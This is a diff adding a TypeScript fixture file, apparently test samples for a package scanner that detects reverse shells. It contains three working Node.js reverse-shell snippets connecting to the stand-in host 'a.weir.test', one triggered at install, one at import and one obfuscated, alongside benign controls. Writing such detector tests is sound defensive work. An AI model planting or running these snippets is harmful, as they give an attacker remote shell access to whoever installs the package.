@@ -1,0 +1,43 @@
+import type { Samples } from '../contract.ts';
+import { at, hide, imported, installed, quiet } from '../samples-kit.ts';
+
+export const samples: Samples = {
+  malicious: [
+    {
+      name: 'a shell on a socket',
+      files: installed(
+        `const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(4444, 'a.weir.test', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });\n`,
+      ),
+      expected: [at('reverse-shell', 'critical', 'setup.js', 2)],
+    },
+    {
+      name: 'by the platform, at import',
+      files: imported(
+        `const { spawn } = require('child_process');\nconst s = require('net').connect({ host: 'a.weir.test', port: 1 });\nconst p = spawn(process.platform === 'win32' ? 'cmd.exe' : 'bash');\ns.pipe(p.stdin);\n`,
+      ),
+      expected: [at('reverse-shell', 'high', 'index.js', 3)],
+    },
+    {
+      name: 'with hidden names',
+      files: installed(
+        `const n = require(Buffer.from('${hide('net')}', 'base64').toString()), c = require('child_' + 'process');\nconst sh = c['sp' + 'awn']('bash', ['-i']);\nconst k = n.createConnection(1, 'a.weir.test');\nk.pipe(sh.stdin);\n`,
+      ),
+      expected: [at('reverse-shell', 'critical', 'setup.js', 2)],
+    },
+  ],
+  benign: [
+    quiet(
+      'a terminal',
+      imported(
+        `const { spawn } = require('child_process');\nexports.open = () => spawn('bash', ['-i'], { stdio: 'inherit' });\n`,
+      ),
+    ),
+    quiet(
+      'a build beside a socket',
+      imported(
+        `const net = require('net'), cp = require('child_process');\nexports.check = (port) => net.connect(port);\nexports.build = () => cp.spawn('bash', ['build.sh']);\n`,
+      ),
+    ),
+    quiet('an echo server', imported(`require('net').createServer((socket) => socket.pipe(socket));\n`)),
+  ],
+};
